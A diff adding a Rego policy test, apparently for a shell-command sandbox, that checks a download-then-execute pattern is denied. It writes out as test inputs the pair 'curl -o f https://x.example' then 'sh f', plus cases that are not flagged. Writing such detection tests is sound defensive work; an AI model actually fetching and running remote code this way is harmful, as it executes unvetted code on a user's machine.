@@ -355,3 +355,26 @@ test_well_formed_input if {
 	not "avfs.deny.malformed_input" in t.ids(t.argv_input(["ls"]))
 	not "avfs.deny.malformed_input" in t.ids(t.sh_c("ls", t.in_script([t.cmd(["ls"])]), {}))
 }
+
+test_download_then_execute_through_a_file if {
+	saved := object.union(t.path_entry("f", "/f", true, "arg"), {"role": "write"})
+	every run in [
+		object.union(t.path_entry("f", "/f", true, "arg"), {"role": "execute"}),
+		object.union(t.path_entry("./f", "/f", true, "program"), {"role": "execute", "command": 1}),
+		object.union(t.path_entry("dl/x.sh", "/dl/x.sh", true, "arg"), {"role": "execute", "command": 1}),
+	] {
+		dir := object.union(saved, {"path": trim_suffix(run.path, "/x.sh")})
+		inp := t.doc([t.cmd(["curl", "-o", "f", "https://x.example"]), t.cmd(["sh", "f"])], null, [dir, run])
+		t.decision_of(inp) == "deny"
+		"avfs.deny.download_exec" in t.ids(inp)
+	}
+
+	# What a program that is not a network program writes is no download,
+	# and a downloaded file that is only read is not run.
+	other := t.doc([t.cmd(["cp", "a", "f"]), t.cmd(["sh", "f"])], null, [saved, object.union(saved, {"role": "execute", "command": 1})])
+	not "avfs.deny.download_exec" in t.ids(other)
+	read := t.doc([t.cmd(["curl", "-o", "f", "https://x.example"]), t.cmd(["cat", "f"])], null, [saved, object.union(saved, {"role": "read", "command": 1})])
+	not "avfs.deny.download_exec" in t.ids(read)
+	sibling := t.doc([t.cmd(["curl", "-o", "f", "https://x.example"]), t.cmd(["sh", "fx"])], null, [saved, object.union(saved, {"role": "execute", "path": "/fx", "command": 1})])
+	not "avfs.deny.download_exec" in t.ids(sibling)
+}
